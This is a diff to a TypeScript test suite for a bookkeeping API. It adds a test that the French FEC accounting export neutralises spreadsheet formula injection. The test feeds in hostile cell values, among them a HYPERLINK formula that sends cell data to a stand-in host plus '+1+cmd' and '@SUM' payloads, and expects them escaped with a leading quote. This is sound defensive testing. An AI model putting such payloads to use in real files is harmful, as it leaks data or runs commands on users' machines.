@@ -117,6 +117,32 @@ describe('bookkeeping', () => {
     expect(bad.json().error.field).toBe('siren');
   });
 
+  it('exports a FEC whose text fields a spreadsheet shows as text, never runs as a formula', async () => {
+    const lines = (await books.get('/api/accounting/chart')).json().form2035Lines;
+    const category = lines.find((l: { side: string }) => l.side === 'expense').key;
+    const expense = await books.post('/api/accounting/expenses', {
+      date: '2024-06-03',
+      label: '=HYPERLINK("http://x.example/?d="&A1;"facture")',
+      pieceRef: '+1+cmd',
+      amountCents: 4_250,
+      category,
+      paymentMethod: 'transfer',
+      supplier: '@SUM(A1:A9)',
+    });
+    expect(expense.statusCode, expense.body).toBe(201);
+    const response = await books.get(
+      '/api/accounting/fec?siren=732829320&fiscalYearStart=2024-01-01&closingDate=2024-12-31',
+    );
+    const check = parseFec(response.body);
+    expect(check.problems).toEqual([]);
+    expect(check.records[0]).toMatchObject({
+      EcritureLib: `'=HYPERLINK("http://x.example/?d="&A1;"facture")`,
+      PieceRef: "'+1+cmd",
+      IdClient: "'@SUM(A1:A9)",
+      Debit: '42,50',
+    });
+  });
+
   it('imports a bank statement once, proposes the deposit slip and card matches, and reconciles', async () => {
     const csv = [
       'Date;Libellé;Débit;Crédit',
